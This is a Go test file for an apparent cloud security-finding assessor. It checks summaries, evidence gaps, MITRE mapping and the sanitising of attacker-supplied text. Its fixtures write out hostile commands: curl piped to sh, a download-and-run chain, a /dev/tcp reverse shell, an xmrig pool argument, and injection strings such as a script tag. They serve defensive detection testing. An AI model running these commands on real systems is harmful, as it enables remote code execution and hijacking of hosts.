package assess

import (
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"github.com/scc-enricher/scc-enricher/pkg/command"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

func TestUnchecked(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	midnight := event().Truncate(24 * time.Hour).Add(24 * time.Hour)
	tests := []struct {
		name   string
		change func(*finding.Finding, *evidence.Evidence)
		want   string
	}{
		{"vt_daily", func(_ *finding.Finding, e *evidence.Evidence) {
			e.VTState = evidence.Status{State: evidence.Quota, RetryAt: midnight}
		}, "VirusTotal: daily quota spent; ask again after 00:00 UTC"},
		{"vt_minute", func(_ *finding.Finding, e *evidence.Evidence) {
			e.VTState = evidence.Status{State: evidence.Quota, RetryAt: event().Truncate(time.Minute).Add(time.Minute)}
		}, "VirusTotal: quota spent; ask again after 2026-09-05T05:30:00Z"},
		{"vt_disabled", func(_ *finding.Finding, e *evidence.Evidence) { e.VTState = evidence.Status{State: evidence.Disabled} }, "VirusTotal: not configured, not asked"},
		{"logs_denied", func(_ *finding.Finding, e *evidence.Evidence) {
			e.LogsState = evidence.Status{State: evidence.Denied, Reason: "logging.logEntries.list"}
		}, "logs: permission denied (logging.logEntries.list)"},
		{"logs_invisible", func(_ *finding.Finding, e *evidence.Evidence) { e.Logs.Visible = false }, "logs: no logs visible in projects/shop-prod: they may be routed to another bucket"},
		{"logs_truncated", func(_ *finding.Finding, e *evidence.Evidence) { e.Logs.Truncated = true }, "logs: only the first 1 entries were read"},
		{"config_iam", func(_ *finding.Finding, e *evidence.Evidence) {
			e.ConfigState.State, e.Config.Partial = evidence.Partial, []string{"iam_policy"}
		}, "config: IAM policy not readable, so who may invoke is unknown"},
		{"config_gone", func(_ *finding.Finding, e *evidence.Evidence) { e.Config = &evidence.Config{Gone: true} }, "config: the workload no longer exists, so its configuration could not be reviewed"},
		{"config_guess", func(_ *finding.Finding, e *evidence.Evidence) { e.Config.RevisionSource = "latest" }, "config: the finding names no revision; pay-00042-abc was reviewed, which is a guess"},
		{"config_guess_job", func(f *finding.Finding, e *evidence.Evidence) {
			f.Workload.Kind, e.Config.RevisionSource = finding.Job, "latest"
		}, "config: the finding names no execution; pay-00042-abc was reviewed, which is a guess"},
		{"findings_not_asked", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState = evidence.Status{} }, "related findings: not asked"},
		{"findings_timeout", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState.State = evidence.Timeout }, "related findings: no answer in time"},
		{"no_process", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes = nil }, "process: the finding carries no process"},
		{"no_arguments", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Args = nil }, "process: the finding carries no arguments, so what the command does is unknown"},
		{"arguments_truncated", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].ArgsTruncated = true }, "process: arguments truncated, the rest of the command is unknown"},
		{"partial_hash", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Binary.PartiallyHashed = true }, "VirusTotal: the hash of /bin/sh covers only a prefix of the file and was not looked up"},
		{"ordinary_shell", func(*finding.Finding, *evidence.Evidence) {}, "VirusTotal: has no answer for what sh was told to do, its file is an ordinary one"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, e := childShell("java", "sh", "-c", "./docker-entrypoint.sh"), complete()
			tt.change(f, e)
			a := p.Assess(input(f, e))
			if !contains(a.Unchecked, tt.want) {
				t.Errorf("Unchecked lacks %q:\n%s", tt.want, strings.Join(a.Unchecked, "\n"))
			}
		})
	}
}

// TestUnanswered holds which silence keeps a finding from being called benign.
func TestUnanswered(t *testing.T) {
	t.Parallel()
	st := func(s evidence.State) func(*finding.Finding, *evidence.Evidence) {
		return func(_ *finding.Finding, e *evidence.Evidence) {
			e.VTState, e.Reputations = evidence.Status{State: s}, nil
		}
	}
	custom := func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Binary.Path = "/app/server" }
	tests := []struct {
		name    string
		changes []func(*finding.Finding, *evidence.Evidence)
		want    []string
	}{
		{"all_answered", nil, nil},
		{"vt_disabled_shell", []func(*finding.Finding, *evidence.Evidence){st(evidence.Disabled)}, nil},
		{"vt_not_applicable_shell", []func(*finding.Finding, *evidence.Evidence){st(evidence.NotApplicable)}, nil},
		{"vt_quota_shell", []func(*finding.Finding, *evidence.Evidence){st(evidence.Quota)}, []string{"virustotal"}},
		{"vt_disabled_custom", []func(*finding.Finding, *evidence.Evidence){st(evidence.Disabled), custom}, []string{"virustotal"}},
		{"vt_custom_known", []func(*finding.Finding, *evidence.Evidence){custom}, nil},
		{"vt_custom_prefix_hash", []func(*finding.Finding, *evidence.Evidence){custom, func(f *finding.Finding, _ *evidence.Evidence) {
			f.Processes[1].Binary.PartiallyHashed = true
		}}, []string{"virustotal"}},
		{"no_arguments", []func(*finding.Finding, *evidence.Evidence){func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Args = nil }}, []string{"arguments"}},
		{"no_process", []func(*finding.Finding, *evidence.Evidence){func(f *finding.Finding, _ *evidence.Evidence) { f.Processes = nil }}, []string{"processes"}},
		{"invisible_logs", []func(*finding.Finding, *evidence.Evidence){func(_ *finding.Finding, e *evidence.Evidence) { e.Logs.Visible = false }}, []string{"logs"}},
	}
	for _, tt := range tests {
		f, e := childShell("java", "sh", "-c", "./docker-entrypoint.sh"), complete()
		for _, change := range tt.changes {
			change(f, e)
		}
		if got := newSubject(input(f, e)).unanswered(); !cmp.Equal(tt.want, got) {
			t.Errorf("%s: unanswered() = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestSummary(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	got := p.Assess(input(childShell("java", "sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"), complete(), other("Reverse Shell"))).Summary
	for _, want := range []string{"Malicious (100/100): java started sh, which ", "the public service pay (shop-prod, europe-west1)", "Why: ", "Next: save the evidence, then contain the workload."} {
		if !strings.Contains(got, want) {
			t.Errorf("summary lacks %q: %s", want, got)
		}
	}
}

// TestRetell: the summary of a finding whose evidence cannot be had again says
// what a whole assessment would say of the same company.
func TestRetell(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	f := childShell("java", "sh", "-c", "id")
	alone, company := input(f, complete()), input(f, complete(), other("Reverse Shell"), other("Malicious URL Observed"))
	a, b := p.Assess(alone), p.Assess(company)
	joint := func(a Assessment) Joint {
		return Joint{Score: a.Score, Verdict: a.Verdict, Priority: a.Priority, Action: a.NextAction}
	}
	if a.NextAction == b.NextAction {
		t.Fatal("the company changes nothing: this test shows little")
	}
	// The rules of the incident among the reasons are not told anew.
	why := func(s string) string {
		before, rest, _ := strings.Cut(s, " Why: ")
		_, after, ok := strings.Cut(rest, " Incident of ")
		if !ok {
			_, after, _ = strings.Cut(rest, " Next: ")
		}
		return before + " … " + after
	}
	for name, tt := range map[string]struct {
		old    string
		before Action
		in     Input
		want   Assessment
	}{
		"company comes": {a.Summary, a.NextAction, company, b}, "company leaves": {b.Summary, b.NextAction, alone, a}, "nothing new": {b.Summary, b.NextAction, company, b},
	} {
		if got := Retell(tt.old, tt.before, f, tt.in.Incident, joint(tt.want)); why(got) != why(tt.want.Summary) {
			t.Errorf("%s: Retell() =\n%s\nwant\n%s", name, got, tt.want.Summary)
		}
	}
	for _, old := range []string{"", "garbage", strings.Repeat("x ", 500)} {
		got := Retell(old, "", f, company.Incident, joint(b))
		if len(got) > maxSummary || !strings.HasPrefix(got, "Malicious (") || !strings.HasSuffix(got, b.Story+" Next: save the evidence, then contain the workload.") {
			t.Errorf("Retell(%.9q) = %q", old, got)
		}
	}
}

// TestSummaryWords holds who is said to have done what.
func TestSummaryWords(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	fetched := childShell("sh", "/var/tmp/upd")
	fetched.Category, fetched.Processes[0].Name = "Execution: Added Malicious Binary Executed", "sh"
	fetched.Processes[0].Binary.Path, fetched.Processes[0].Args = "/bin/dash", []string{"sh", "-c", "curl -s http://203.0.113.9/x -o /var/tmp/upd; chmod 755 /var/tmp/upd; /var/tmp/upd"}
	fetched.Processes[1].Name, fetched.Processes[1].Binary.Path = "upd", "/var/tmp/upd"
	distant := childShell("sh", "sh", "-c", "id")
	distant.Processes = append(distant.Processes, finding.Process{Name: "wget", PID: 30, ParentPID: 5, Args: []string{"sh", "-c", "curl http://203.0.113.9/x | sh"}})
	alone := childShell("x", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	alone.Processes = alone.Processes[1:]
	dash := childShell("java", "sh", "-c", "id")
	dash.Processes[1].Binary.Path = "/usr/bin/dash"
	hidden := childShell("java", "x", "-c", "id")
	hidden.Processes[1].Name, hidden.Processes[1].Binary.Path = "nginx", "/tmp/.x"
	gone := complete()
	gone.Config, gone.ConfigState = &evidence.Config{Gone: true}, evidence.Status{State: evidence.Empty}
	blind := complete()
	blind.Logs, blind.LogsState = evidence.Logs{}, evidence.Status{State: evidence.Empty}
	long := "a-very-long-name.of-somebody.who-deploys-things@engineering.example.com"
	robot := "123456789012-compute@developer.gserviceaccount.com"
	call := &finding.Finding{Category: "Impact: Cryptomining Commands", EventTime: event(), Access: finding.Access{Principal: robot, MethodName: "x.RunJob"}, Workload: dash.Workload}
	mined := &finding.Finding{Category: "Impact: Cryptomining Commands", EventTime: event(), Access: finding.Access{Principal: long, MethodName: "x.RunJob", CallerIP: "203.0.113.9"}, Workload: dash.Workload}
	overridden := complete()
	overridden.Config.OverriddenArgs = true
	overridden.Config.Containers = []evidence.ContainerConfig{{Name: "pay", Command: []string{"xmrig"}, Args: []string{"-o", "stratum+tcp://pool.example.net:3333"}}}
	bare := *childShell("x")
	bare.Processes = nil
	connected := childShell("java", "sh", "-i")
	connected.ReverseShell = &finding.ReverseShell{DestinationIP: "8.8.8.8", DestinationPort: 4444}
	library := childShell("python3", "python3", "app.py")
	library.Category, library.Processes = "Execution: Added Malicious Library Loaded", library.Processes[1:]
	library.Processes[0].Libraries = []finding.File{{Path: "/tmp/x.so", SHA256: hash("e")}}
	longDeploy := deployed(complete(), long, 3)
	longDeploy.Config.Creator, longDeploy.LogsState = long, evidence.Status{State: evidence.Denied}
	robotDeploy := deployed(complete(), robot, 3)
	robotDeploy.Config.Creator, robotDeploy.LogsState = robot, evidence.Status{State: evidence.Denied}
	start := func() *finding.Finding { return childShell("java", "sh", "-c", "./docker-entrypoint.sh") }
	tests := []struct {
		name      string
		f         *finding.Finding
		e         *evidence.Evidence
		has, lack string
	}{
		{"the parent fetched", fetched, complete(), ": sh, which fetches code from the network and runs it, started upd in ", "upd, which fetches"},
		{"another process fetched", distant, complete(), ": sh started sh; wget fetches code from the network and runs it in ", "sh, which fetches"},
		{"a process alone", alone, complete(), ": bash ", " ran, which"},
		{"the name as in the tree", dash, complete(), ": java started sh, which", "dash"},
		{"a name that hides a file", hidden, complete(), "java started nginx (.x)", ""},
		{"gone", dash, gone, " The service no longer exists.", "contain the workload"},
		{"logs not visible", dash, blind, " No logs visible.", "Not checked: logs"},
		{"a long principal", start(), longDeploy, "ask " + long + " whether", ""},
		{"a service account is not asked", start(), robotDeploy, "ask the owner whether", "ask 1234"},
		{"where a call came from", mined, complete(), " from 203[.]0[.]113[.]9", "203.0.113"},
		{"what one execution was told", mined, overridden, "; the execution's own command, not the job's, runs or configures a cryptocurrency miner in ", "configured command"},
		{"where a shell leads", connected, complete(), "a connection to 8[.]8[.]8[.]8:4444", "8.8.8.8"},
		{"a library of a process alone", library, complete(), ": python3 loaded /tmp/x.so in ", " ran"},
		{"the category once", &bare, complete(), ": Google reports \"Unexpected Child Shell\" in the public service pay (shop-prod, europe-west1). Why: Google rates it CRITICAL, can read secrets.", ""},
		{"a version is not all that was asked", childShell("java", "sh", "-c", "java -version; /opt/x/run"), complete(), ": java started sh in ", "version"},
		{"a service account that called", call, complete(), robot + " called RunJob", ""},
	}
	for _, tt := range tests {
		got := p.Assess(input(tt.f, tt.e)).Summary
		if !strings.Contains(got, tt.has) || tt.lack != "" && strings.Contains(got, tt.lack) {
			t.Errorf("%s: summary lacks %q or has %q: %s", tt.name, tt.has, tt.lack, got)
		}
	}
	for _, e := range []*evidence.Evidence{longDeploy, robotDeploy} {
		for _, st := range p.Assess(input(start(), e)).Plan {
			if st.ID == "contact_owner" && strings.Contains(st.Title, "gserviceaccount.com") {
				t.Errorf("the plan asks a service account: %s", st.Title)
			}
		}
	}
	if got := p.Assess(input(childShell("java", "sh", "-c", "id; uname -a"), complete())).Reading.Hits; len(got) == 0 || strings.Contains(got[0].Text, "; ;") {
		t.Errorf("hits %+v", got)
	}
}

// TestHostileText puts attacker's text into names and holds what a summary
// promises: bounded, printable, no markup, no arguments.
func TestHostileText(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	for _, evil := range []string{
		"<script>alert(1)</script>", "[click](http://evil.example)", "a\x1b[31mred\nnew line", "\u202egnp.exe", strings.Repeat("long", 5000), "\xff\xfe", "`id`", "",
	} {
		f, e := childShell("java", "sh", "-c", "secret-argument"), complete()
		f.Processes[0].Binary.Path, f.Processes[1].Binary.Path = "/x/"+evil, "/x/"+evil
		f.Category, f.Workload.Name = evil, evil
		f.Access.Principal = evil
		e.Config.Creator, e.Config.LastModifier, e.Config.RevisionCreator = evil, evil, evil
		e.Reputations[0].Artifact.Path, e.Reputations[0].Label = evil, evil
		e.Reputations[0].Verdict, e.Reputations[0].Malicious = evidence.VerdictMalicious, 50
		a := p.Assess(input(f, deployed(e, evil, 1)))
		if len(a.Summary) > maxSummary || strings.Contains(a.Summary, "secret-argument") {
			t.Errorf("summary with %.20q: %d bytes, %q", evil, len(a.Summary), a.Summary)
		}
		texts := []string{a.Summary}
		for _, st := range a.Plan {
			texts = append(texts, st.Title)
		}
		for _, text := range texts {
			if strings.ContainsAny(text, "<>`[]") || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("with %.20q the text is %q", evil, text)
			}
		}
	}
}

func TestTacticsAndIndicators(t *testing.T) {
	t.Parallel()
	f, e := childShell("java", "bash", "-c", "curl http://203.0.113.9/x.sh | sh"), complete()
	f.Mitre = finding.Mitre{PrimaryTactic: "EXECUTION", PrimaryTechniques: []string{"UNIX_SHELL", "COMMAND_AND_SCRIPTING_INTERPRETER"}, AdditionalTactics: []string{"IMPACT", "SOMETHING_NEW"}, Version: "9"}
	f.ReverseShell = &finding.ReverseShell{DestinationIP: "198.51.100.7", DestinationPort: 4444}
	f.Indicator.Domains = []string{"evil.example"}
	f.Connections = []finding.Connection{{DestinationIP: "198.51.100.7"}, {DestinationIP: "198.51.100.8"}}
	a := mustDefault(t).Assess(input(f, e))
	if a.AttackVersion != "9" {
		t.Errorf("AttackVersion = %q, want 9", a.AttackVersion)
	}
	if want := []string{"TA0002", "TA0011", "TA0040", "SOMETHING_NEW"}; !cmp.Equal(want, a.Tactics) {
		t.Errorf("Tactics = %v, want %v", a.Tactics, want)
	}
	for _, want := range []string{"T1059", "T1059.004", "T1105"} {
		if !contains(a.Techniques, want) {
			t.Errorf("Techniques %v lack %s", a.Techniques, want)
		}
	}
	for i, want := range []command.Indicator{{Kind: "ip", Value: "198.51.100.7"}, {Kind: "domain", Value: "evil.example"}, {Kind: "url", Value: "http://203.0.113.9/x.sh"}} {
		if i >= len(a.Indicators) || a.Indicators[i] != want {
			t.Errorf("Indicators[%d] is not %v: %v", i, want, a.Indicators)
		}
	}
	seen := map[command.Indicator]bool{}
	for _, i := range a.Indicators {
		if seen[i] {
			t.Errorf("indicator %v is there twice", i)
		}
		seen[i] = true
	}
}
